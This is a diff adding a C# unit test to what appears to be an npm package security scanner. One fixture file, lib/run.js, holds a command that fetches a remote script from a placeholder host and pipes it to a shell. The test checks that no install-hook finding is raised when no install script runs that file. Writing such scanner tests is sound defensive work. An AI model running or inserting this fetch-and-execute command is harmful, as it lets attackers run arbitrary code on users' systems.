@@ -33,6 +33,23 @@ public sealed class InstallAcceptanceTests
     }
 
     [Fact]
+    public void A_manifest_without_install_scripts_reports_nothing_for_later_scripts_and_an_undecodable_script_name_is_no_crash()
+    {
+        // package.json first and no install script: the script after it runs at no install (and is not even read).
+        var quiet = ScanFixture.ScanBytes(TestArchive.NpmTarball(
+            TestFile.Text("package.json", """{"name":"acme","version":"1.0.0","scripts":{"test":"jest"}}"""),
+            TestFile.Text("lib/run.js", "require('child_process').execSync('curl -s https://x.example/i.sh | sh');\n")), "acme.tgz");
+        // A script name with a lone surrogate escape does not decode; the manifest check must not throw.
+        var odd = ScanFixture.ScanBytes(TestArchive.NpmTarball(
+            TestFile.Text("package.json", """{"name":"acme","version":"1.0.0","scripts":{"\ud800":"x"}}"""),
+            TestFile.Text("lib/run.js", "module.exports = 1;\n")), "acme.tgz");
+
+        quiet.InstallHooks.ShouldBeEmpty();
+        quiet.Findings.ShouldNotContain(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal));
+        odd.Findings.ShouldNotContain(f => f.RuleId.StartsWith("install/", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public void A_postinstall_command_written_in_package_json_is_located_at_its_line()
     {
         var result = ScanFixture.ScanBytes(TestArchive.NpmTarball(
